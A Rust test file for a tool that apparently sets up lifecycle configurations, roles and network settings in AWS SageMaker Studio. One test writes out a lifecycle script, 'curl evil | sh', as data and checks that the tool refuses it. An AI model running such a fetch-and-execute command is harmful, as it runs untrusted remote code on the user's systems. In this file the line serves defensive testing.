//! Studio domain, roles and what stands in the slots.

use super::*;

#[test]
fn a_studio_domain_with_a_way_of_its_own_is_refused_unless_a_hub_serves_it() {
    let mut situation = Situation::default();
    situation.studio().domain["AppNetworkAccessType"] = "PublicInternetOnly".into();
    assert!(situation.refusal().contains("PublicInternetOnly"));
    situation.choices.endpoints = vec![WantedEndpoint::None];
    situation.choices.vpc_id = Some("vpc-1".to_owned());
    assert_eq!(situation.consumer().endpoints, []);
}

#[test]
fn anothers_lifecycle_configuration_is_replaced_only_when_told_and_remembered() {
    let mut situation = Situation::default();
    situation.put("domain/JupyterLab", OTHERS);
    assert!(situation.refusal().contains("--replace"));
    situation.replace = true;
    let decision = situation.decide();
    let replaced = &decision.attachments[0];
    assert!(replaced.replaces_another);
    let memory = crate::bootstrap::plan::remember(
        &Memory::default(),
        Memory::default(),
        &decision.attachments,
        &situation.found,
    );
    assert_eq!(memory.replaced["domain/JupyterLab"], OTHERS);
    assert_eq!(memory.replaced["domain/CodeEditor"], "");
}

#[test]
fn ours_gives_way_to_a_newer_one_and_what_was_before_us_stays_remembered() {
    let mut situation = Situation::default();
    let old = situation.lifecycle("studio-mirror-jupyterlab-0123456789ab", SCRIPT);
    situation.put("domain/JupyterLab", &old);
    let decision = situation.decide();
    assert_eq!(decision.attachments[0].verb, AttachVerb::Attach);
    assert!(!decision.attachments[0].replaces_another);
    let before = Memory {
        replaced: [("domain/JupyterLab".to_owned(), OTHERS.to_owned())].into(),
        ..Memory::default()
    };
    let memory = crate::bootstrap::plan::remember(
        &before,
        Memory::default(),
        &decision.attachments,
        &situation.found,
    );
    assert_eq!(memory.replaced["domain/JupyterLab"], OTHERS);
}

#[test]
fn one_of_our_name_with_another_script_is_not_ours() {
    let mut situation = Situation::default();
    let consumer = situation.consumer();
    let name = crate::bootstrap::template::lifecycle_configurations(&consumer)[0]
        .name
        .clone();
    situation.lifecycle(&name, "#!/bin/bash\ncurl evil | sh\n");
    assert!(
        situation
            .refusal()
            .contains("another script than its name stands for")
    );
    situation.lifecycle(&name, SCRIPT);
    assert_eq!(situation.consumer().held_lifecycles, [App::CodeEditor]);
    situation.made_by_consumer("AWS::SageMaker::StudioLifecycleConfig", &name);
    assert_eq!(situation.consumer().held_lifecycles, App::ALL);
}

#[test]
fn a_canary_goes_first_and_ends_with_the_next_run() {
    let mut situation = Situation {
        canary: Some("ann".to_owned()),
        ..Situation::default()
    };
    assert!(situation.refusal().contains("profile ann"));
    situation
        .studio()
        .profiles
        .insert("ann".to_owned(), json!({"UserSettings": {}}));
    let keys = |decision: &Decision| -> Vec<String> {
        decision
            .attachments
            .iter()
            .map(|one| format!("{:?} {}", one.verb, one.slot.key()))
            .collect()
    };
    assert_eq!(
        keys(&situation.decide()),
        [
            "Attach profile/ann/JupyterLab",
            "Attach profile/ann/CodeEditor"
        ]
    );
    let ours = situation.lifecycle("studio-mirror-jupyterlab-0123456789ab", SCRIPT);
    situation.put("profile/ann/JupyterLab", &ours);
    situation.canary = None;
    assert_eq!(
        keys(&situation.decide()),
        [
            "Attach domain/JupyterLab",
            "Attach domain/CodeEditor",
            "Restore profile/ann/JupyterLab"
        ]
    );
}

#[test]
fn a_profile_with_its_own_is_named_and_left_alone() {
    let mut situation = Situation::default();
    situation.put("profile/bob/CodeEditor", OTHERS);
    let decision = situation.decide();
    assert!(
        decision
            .affected
            .iter()
            .any(|line| line.contains("Code Editor of the profile bob has its own"))
    );
    assert_eq!(decision.attachments.len(), 2);
}

#[test]
fn roles_that_are_not_there_or_not_here_are_refused() {
    let mut situation = Situation::default();
    situation.found.roles.insert("Gone".to_owned(), None);
    assert!(situation.refusal().contains("role Gone"));
    situation.found.roles.clear();
    assert!(situation.refusal().contains("--role-arn"));
    situation.choices.iam = Some(IamWay::Print);
    assert!(!situation.consumer().attach_policies);
    situation.choices.role_arn = vec!["arn:aws:iam::999988887777:role/Exec".to_owned()];
    assert!(situation.refusal().contains("account 999988887777"));
}

#[test]
fn without_a_studio_domain_the_flags_say_everything() {
    let mut situation = Situation::default();
    situation.found.studio = None;
    situation.choices.studio_domain_id = None;
    let refusals = |situation: &Situation| situation.decide().refusals().count();
    assert_eq!(refusals(&situation), 2);
    situation.choices.security_group_ids = vec!["sg-told".to_owned()];
    situation.choices.subnet_ids = vec!["subnet-b".to_owned()];
    let consumer = situation.consumer();
    assert_eq!(consumer.space_group_ids, ["sg-told"]);
    assert_eq!(consumer.route_table_ids, ["rtb-main"]);
    assert_eq!(situation.decide().attachments, []);
}
